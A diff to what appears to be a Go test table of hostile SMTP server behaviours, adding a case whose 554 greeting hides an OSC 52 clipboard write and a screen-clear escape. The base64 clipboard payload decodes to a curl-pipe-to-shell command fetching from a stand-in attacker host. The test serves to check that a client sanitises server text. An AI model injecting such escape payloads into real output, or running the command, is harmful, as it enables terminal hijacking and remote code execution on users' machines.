@@ -174,6 +174,9 @@ func HostileCases() []HostileCase {
 	add(HostileCase{Name: "smtp-greeting-421", Proto: hostileSMTP, TLS: hostileStartTLS, Point: PointGreeting,
 		Does: "greets with 421 and closes (RFC 5321 §3.8)", act: actReplaceClose,
 		payload: "421 4.3.2 hostile.lab.test Service not available, closing transmission channel\r\n"})
+	add(HostileCase{Name: "smtp-greeting-554-escapes", Proto: hostileSMTP, TLS: hostileStartTLS, Point: PointGreeting,
+		Does: "refuses with 554 whose text carries an OSC 52 write and a screen clear, then closes", act: actReplaceClose,
+		payload: "554 5.3.2 \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2J no service for you\r\n"})
 	add(HostileCase{Name: "smtp-starttls-reply-454", Proto: hostileSMTP, TLS: hostileStartTLS, Point: PointStartTLSReply,
 		Does: "answers STARTTLS with 454 (RFC 3207 §4)", act: actReplace,
 		payload: "454 4.7.0 TLS not available due to temporary reason\r\n", refuse: true})
